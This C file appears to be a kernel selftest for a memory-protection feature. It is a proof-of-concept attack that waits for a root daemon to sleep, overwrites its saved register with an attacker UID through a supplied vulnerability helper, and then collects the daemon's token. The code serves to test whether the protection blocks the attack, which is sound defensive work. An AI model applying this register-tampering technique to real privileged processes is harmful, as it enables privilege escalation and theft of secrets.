// SPDX-License-Identifier: GPL-2.0-only
/*
 * Alter a register of a root daemon where the kernel saved it while the daemon
 * sleeps.
 */
#include <stddef.h>
#include <time.h>

#include "common.h"

#define TRIES	1000

int main(int argc, char **argv)
{
	const struct timespec pause = { .tv_nsec = 10 * 1000 * 1000 };
	int pid = parse_number(argc > 1 ? argv[1] : NULL);
	struct kpkeys_vuln_reg r;
	char token[TOKEN_LEN];
	int i;

	/* Wait until the daemon sleeps, with its decision in the register. */
	for (i = 0; i < TRIES; i++) {
		r = vuln_reg(pid, DAEMON_REG);
		if (r.value == DAEMON_DENIED)
			break;
		nanosleep(&pause, NULL);
	}
	if (i == TRIES)
		die("the daemon does not get to its read");

	vuln_write(r.addr, ATTACKER_UID);
	if (!ask_daemon(token))
		out_of_reach("the daemon has the registers that it had");
	report_loot(token);
	return 0;
}
